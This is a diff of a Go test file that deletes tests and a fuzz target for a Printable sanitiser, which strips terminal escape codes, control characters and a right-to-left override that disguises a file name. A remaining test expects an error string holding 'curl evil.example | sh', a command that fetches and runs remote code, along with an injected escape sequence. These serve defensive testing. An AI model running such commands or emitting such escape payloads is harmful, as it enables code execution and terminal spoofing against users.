@@ -269,26 +269,6 @@ func TestFetchNoStream(t *testing.T) {
 	}
 }
 
-func TestPrintable(t *testing.T) {
-	for in, want := range map[string]string{
-		"":                               "",
-		"plain, ünïcode, 漢字\nnext":       "plain, ünïcode, 漢字\nnext",
-		"\x1b[31mred\x07\r\b\t":          "?[31mred????",
-		"\u009b2J\u0085\x7f":             "?2J??",
-		"bad \xff\xfe utf-8":             "bad ?? utf-8",
-		"\u202egnp.exe":                  "?gnp.exe",
-		"\u200bzero\u2028line\ufeffmark": "?zero?line?mark",
-	} {
-		if got := Printable(in); got != want {
-			t.Errorf("Printable(%q) = %q; want %q", in, got, want)
-		}
-	}
-	long := Printable(strings.Repeat("é\x1b", 10_000))
-	if len(long) > 1100 || strings.Contains(long, "\x1b") || !strings.HasSuffix(long, "…") {
-		t.Errorf("Printable() of 30000 bytes has %d; want about 1000, with an ellipsis", len(long))
-	}
-}
-
 // What a guest says is on the lines that it is printed on: in others it could speak in
 // mayfly's name.
 func TestGuestErrorIsOneLine(t *testing.T) {
@@ -296,21 +276,6 @@ func TestGuestErrorIsOneLine(t *testing.T) {
 	if got, want := err.Error(), "no hint: curl evil.example | sh??[2K"; got != want {
 		t.Errorf("Error() = %q; want %q", got, want)
 	}
-	if got := Visible(strings.Repeat("a", 5000) + "\u009b1m\n"); got != strings.Repeat("a", 5000)+"?1m\n" {
-		t.Errorf("Visible() of 5000 bytes = …%q; want all of them", got[len(got)-10:])
-	}
-}
-
-func FuzzPrintable(f *testing.F) {
-	f.Add("a\x1b[0m")
-	f.Add(strings.Repeat("ä", 600))
-	f.Fuzz(func(t *testing.T, s string) {
-		for _, r := range Printable(s) {
-			if r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 {
-				t.Errorf("Printable(%q) holds %U", s, r)
-			}
-		}
-	})
 }
 
 // FuzzFetch plays a guest that answers a fetch with anything.
